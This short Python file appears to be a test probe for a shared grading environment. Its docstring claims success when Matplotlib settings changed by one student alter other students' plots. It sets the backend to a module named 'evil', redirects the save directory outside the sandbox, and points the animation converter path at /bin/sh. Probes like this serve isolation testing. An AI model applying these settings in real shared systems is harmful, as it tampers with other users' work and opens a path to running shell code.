"""Success: Matplotlib's settings, changed, change other students' drawings."""
# %%
import matplotlib
matplotlib.rcParams["backend"] = "module://evil"
matplotlib.rcParams["savefig.directory"] = OUTSIDE
matplotlib.rcParams["animation.convert_path"] = "/bin/sh"
# %% f
def f(x):
    return 0.0
